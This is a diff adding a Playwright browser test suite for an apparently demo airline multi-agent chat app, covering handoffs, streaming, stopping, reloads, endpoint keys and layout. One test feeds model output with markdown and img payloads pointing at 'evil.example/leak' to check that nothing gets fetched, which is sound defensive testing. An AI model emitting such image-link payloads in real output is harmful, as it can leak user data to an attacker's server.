@@ -1,0 +1,279 @@
+"""The journeys of the first page, walked in Chromium from an empty profile."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+
+from tests.browser.endpoint import Endpoint, endpoint
+
+pytestmark = pytest.mark.browser
+
+BAG = "My bag never arrived"
+LONG = [f"word{number}" for number in range(150)]
+
+
+def start(page: Page, url: str) -> Page:
+    page.goto(url)
+    expect(page.get_by_role("button", name=BAG)).to_be_visible(timeout=20_000)
+    expect(page.locator(".st-key-side_graph canvas")).to_be_visible(timeout=10_000)
+    return page
+
+
+def answered(page: Page) -> None:
+    """Until the team waits for the person."""
+    expect(page.locator(".ap-state")).to_contain_text("answers next", timeout=20_000)
+
+
+def handoffs(page: Page) -> Locator:
+    return page.locator(".ap-handoff")
+
+
+def write(page: Page, text: str) -> None:
+    box = page.get_by_placeholder(re.compile("Write"))
+    box.fill(text)
+    box.press("Enter")
+
+
+def connect(page: Page, served: Endpoint, *, key: str = "") -> None:
+    """Choose the endpoint in the model's menu."""
+    page.locator(".st-key-model_menu button").first.click()
+    page.get_by_role("radio", name="A language model").click()
+    page.get_by_label("Address (base URL)").fill(served.url)
+    page.get_by_label("Address (base URL)").press("Enter")
+    if key:
+        page.get_by_label("Key (API key)").fill(key)
+        page.get_by_label("Key (API key)").press("Enter")
+    page.get_by_role("button", name="List models").click()
+    expect(page.get_by_text("1 model found")).to_be_visible(timeout=10_000)
+    page.get_by_role("combobox", name="Model").click()
+    page.get_by_role("option", name="tiny").click()
+    page.get_by_role("button", name="Test", exact=True).click()
+    expect(page.get_by_text("tiny answers")).to_be_visible(timeout=10_000)
+    page.keyboard.press("Escape")
+
+
+def live_graph(page: Page) -> str:
+    """What the graph says to those who listen."""
+    return page.locator(".st-key-side_graph").inner_text()
+
+
+def test_the_first_handoff_is_one_click_away(page: Page, app_url: str) -> None:
+    start(page, app_url)
+    page.get_by_role("button", name=BAG).click()
+    expect(handoffs(page)).to_have_count(1, timeout=10_000)
+    expect(handoffs(page)).to_contain_text("Lost baggage")
+    answered(page)
+
+
+def test_the_airline_hands_off_twice_by_clicking_alone_and_the_graph_counts(page: Page, app_url: str) -> None:
+    start(page, app_url)
+    page.get_by_role("button", name=BAG).click()
+    expect(handoffs(page)).to_have_count(1, timeout=10_000)
+    answered(page)
+    page.get_by_role("button", name="I need to move my flight").click()
+    expect(handoffs(page)).not_to_have_count(1, timeout=15_000)
+    answered(page)
+    assert handoffs(page).count() >= 2
+    page.get_by_role("tab", name="Graph as a list").click()
+    counts = page.locator(".ap-graphlist b")
+    expect(counts.first).to_be_visible()
+    assert sum(int(text[0]) for text in counts.all_inner_texts()) == handoffs(page).count()
+
+
+def test_the_agent_at_work_lights_up_while_its_answer_streams(page: Page, app_url: str) -> None:
+    with endpoint(LONG) as served:
+        start(page, app_url)
+        connect(page, served)
+        page.get_by_role("button", name=BAG).click()
+        expect(page.locator(".ap-streaming")).to_be_visible(timeout=10_000)
+        expect(page.locator(".ap-state")).to_contain_text("Front desk")
+        expect(page.locator(".st-key-side_graph")).to_contain_text("Front desk")
+        assert page.locator(".ap-streaming").count() == 1
+
+
+def test_an_endpoint_streams_its_words_and_gets_the_key_alone(page: Page, app_url: str) -> None:
+    with endpoint(["Hello", "**there**", "friend."]) as served:
+        start(page, app_url)
+        connect(page, served, key="sk-planted")
+        page.get_by_role("button", name=BAG).click()
+        answered(page)
+        expect(page.locator(".ap-text").last).to_have_text("Hello there friend.")
+        assert served.keys[-1] == "Bearer sk-planted"
+        assert served.questions[-1]["model"] == "tiny"
+        assert "sk-planted" not in page.content()
+
+
+def test_using_other_widgets_in_mid_run_loses_nothing(page: Page, app_url: str) -> None:
+    with endpoint(LONG) as served:
+        start(page, app_url)
+        connect(page, served)
+        page.get_by_role("button", name=BAG).click()
+        expect(page.locator(".ap-streaming")).to_contain_text("word3", timeout=10_000)
+        for tab in ("Events", "Agent", "Context variables"):
+            page.get_by_role("tab", name=tab).click()
+            page.wait_for_timeout(200)
+        answered(page)
+        expect(page.locator(".ap-text").last).to_have_text(" ".join(LONG))
+        assert len(served.questions) == 2  # the test of the model, and one message
+
+
+def test_a_reload_in_mid_run_takes_the_answer_up_again(page: Page, app_url: str) -> None:
+    with endpoint(LONG) as served:
+        start(page, app_url)
+        connect(page, served)
+        page.get_by_role("button", name=BAG).click()
+        expect(page.locator(".ap-streaming")).to_contain_text("word3", timeout=10_000)
+        page.reload()
+        expect(page.locator(".ap-you")).to_contain_text(BAG, timeout=15_000)
+        answered(page)
+        expect(page.locator(".ap-text").last).to_have_text(" ".join(LONG))
+        assert len(served.questions) == 2
+
+
+def test_stop_ends_the_answer_and_keeps_what_was_said(page: Page, app_url: str) -> None:
+    with endpoint(LONG) as served:
+        start(page, app_url)
+        connect(page, served)
+        page.get_by_role("button", name=BAG).click()
+        expect(page.locator(".ap-streaming")).to_contain_text("word3", timeout=10_000)
+        page.get_by_role("button", name="Stop").click()
+        expect(page.locator(".ap-calm")).to_contain_text("You stopped the answer", timeout=2_000)
+        said = page.locator(".ap-text").last.inner_text()
+        assert said.startswith("word0 word1")
+        assert "word149" not in said
+        write(page, "Go on")
+        answered(page)
+        assert served.questions[-1]["messages"][-1]["content"] == "Go on"
+
+
+def test_a_message_written_in_mid_run_is_sent_after_it(page: Page, app_url: str) -> None:
+    with endpoint(LONG[:40]) as served:
+        start(page, app_url)
+        connect(page, served)
+        page.get_by_role("button", name=BAG).click()
+        expect(page.locator(".ap-streaming")).to_contain_text("word3", timeout=10_000)
+        write(page, "And my dog")
+        expect(page.locator(".ap-waiting")).to_have_text("And my dog")
+        expect(page.locator(".ap-you:not(.ap-waiting)")).to_have_count(2, timeout=10_000)
+        answered(page)
+        assert [m["content"] for m in served.questions[-1]["messages"] if m["role"] == "user"][-1] == "And my dog"
+
+
+def test_an_endpoint_that_is_not_there_is_told_in_words_with_a_way_on(page: Page, app_url: str) -> None:
+    with endpoint(["Hello"]) as served:
+        start(page, app_url)
+        connect(page, served)
+    page.get_by_role("button", name=BAG).click()
+    alert = page.get_by_role("alert").filter(has_text="Check the address")
+    expect(alert).to_be_visible(timeout=20_000)
+    assert "Traceback" not in page.content()
+    page.get_by_role("button", name="Use the offline rules instead").click()
+    expect(handoffs(page)).to_have_count(1, timeout=10_000)
+    expect(page.locator(".ap-error")).to_have_count(0)
+
+
+def test_a_calls_exact_data_is_two_clicks_deep_and_stays_open_while_the_page_is_drawn_anew(
+    page: Page, app_url: str
+) -> None:
+    start(page, app_url)
+    page.get_by_role("button", name="Is flight LW212 on time").click()
+    answered(page)
+    call = page.locator("details.ap-call").first
+    call.locator("summary").first.click()
+    expect(call.get_by_text("Asked with")).to_be_visible()
+    call.get_by_text("Exact data").click()
+    expect(call.locator("pre")).to_be_visible()
+    page.get_by_role("tab", name="Events").click()
+    expect(page.locator(".ap-events")).to_be_visible()
+    expect(call.locator("pre")).to_be_visible()
+
+
+def test_a_new_conversation_starts_over(page: Page, app_url: str) -> None:
+    start(page, app_url)
+    page.get_by_role("button", name=BAG).click()
+    answered(page)
+    assert "conversation=" in page.url
+    page.get_by_role("button", name="New conversation").click()
+    expect(page.get_by_role("button", name=BAG)).to_be_visible()
+    expect(page.locator(".ap-row")).to_have_count(0)
+    assert "conversation=" not in page.url
+
+
+def test_two_tabs_do_not_disturb_each_other(page: Page, app_url: str) -> None:
+    other = page.context.new_page()
+    start(page, app_url)
+    start(other, app_url)
+    page.get_by_role("button", name=BAG).click()
+    other.get_by_role("button", name="I need to move my flight").click()
+    answered(page)
+    answered(other)
+    assert page.locator(".ap-you").all_inner_texts() != other.locator(".ap-you").all_inner_texts()
+    assert page.locator(".ap-you").count() == other.locator(".ap-you").count() == 1
+
+
+def test_text_of_a_model_makes_the_browser_fetch_and_run_nothing(page: Page, app_url: str) -> None:
+    evil = ["![x](https://evil.example/leak?q=1)", "<img", "src=https://evil.example/y>", "$x^2$", ":material/home:"]
+    with endpoint(evil) as served:
+        start(page, app_url)
+        connect(page, served)
+        page.get_by_role("button", name=BAG).click()
+        answered(page)
+        shown = page.locator(".ap-text").last.inner_text()
+        assert "evil.example/leak" in shown
+        assert "$x^2$ :material/home:" in shown
+        assert page.locator(".ap-text img, .ap-text script").count() == 0
+
+
+@pytest.mark.parametrize("size", [(1440, 900), (1024, 768)])
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_it_fits_the_window_without_scrolling(
+    page: Page, app_url: str, size: tuple[int, int], theme: str, tmp_path: Path
+) -> None:
+    page.set_viewport_size({"width": size[0], "height": size[1]})
+    page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
+    start(page, app_url)
+    page.get_by_role("button", name=BAG).click()
+    answered(page)
+    page.screenshot(path=tmp_path / f"{theme}-{size[0]}.png")
+    root = "document.documentElement"
+    assert page.evaluate(f"{root}.scrollWidth <= innerWidth")
+    assert page.evaluate("document.querySelector('[data-testid=stMain]').scrollHeight <= innerHeight + 1")
+
+
+def test_on_a_narrow_window_the_conversation_comes_first(page: Page, app_url: str) -> None:
+    page.set_viewport_size({"width": 600, "height": 900})
+    start(page, app_url)
+    talk, side = page.locator(".st-key-talk").bounding_box(), page.locator(".st-key-side").bounding_box()
+    assert talk is not None
+    assert side is not None
+    assert talk["y"] + talk["height"] <= side["y"]
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_the_keyboard_alone_reaches_a_handoff(page: Page, app_url: str) -> None:
+    start(page, app_url)
+    for _ in range(40):
+        page.keyboard.press("Tab")
+        if BAG in str(page.evaluate("document.activeElement.textContent")):
+            break
+    page.keyboard.press("Enter")
+    expect(handoffs(page)).to_have_count(1, timeout=10_000)
+
+
+def test_nothing_jumps_while_an_answer_streams(page: Page, app_url: str) -> None:
+    with endpoint(LONG) as served:
+        start(page, app_url)
+        connect(page, served)
+        parts = [
+            page.locator(name) for name in (".st-key-bar", ".st-key-talk", ".st-key-side_graph", ".st-key-side_more")
+        ]
+        before = [part.bounding_box() for part in parts]
+        page.get_by_role("button", name=BAG).click()
+        expect(page.locator(".ap-streaming")).to_contain_text("word9", timeout=10_000)
+        during = [part.bounding_box() for part in parts]
+        answered(page)
+        assert before == during == [part.bounding_box() for part in parts]
